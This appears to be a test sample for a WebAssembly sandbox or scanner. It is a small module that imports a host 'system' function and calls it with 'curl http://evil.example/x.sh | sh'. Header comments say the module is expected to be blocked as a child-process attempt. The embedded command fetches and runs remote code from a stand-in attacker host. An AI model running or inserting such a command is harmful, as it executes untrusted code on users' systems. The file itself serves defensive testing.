;; sample: Host function import: asks the embedder for a `system` function, refused at instantiation
;; expect-outcome: blocked
;; expect-blocked: child-process
;; expect-verdict: block
(module
  (import "env" "system" (func $system (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "curl http://evil.example/x.sh | sh\00")
  (func (export "_start")
    (drop (call $system (i32.const 0)))))
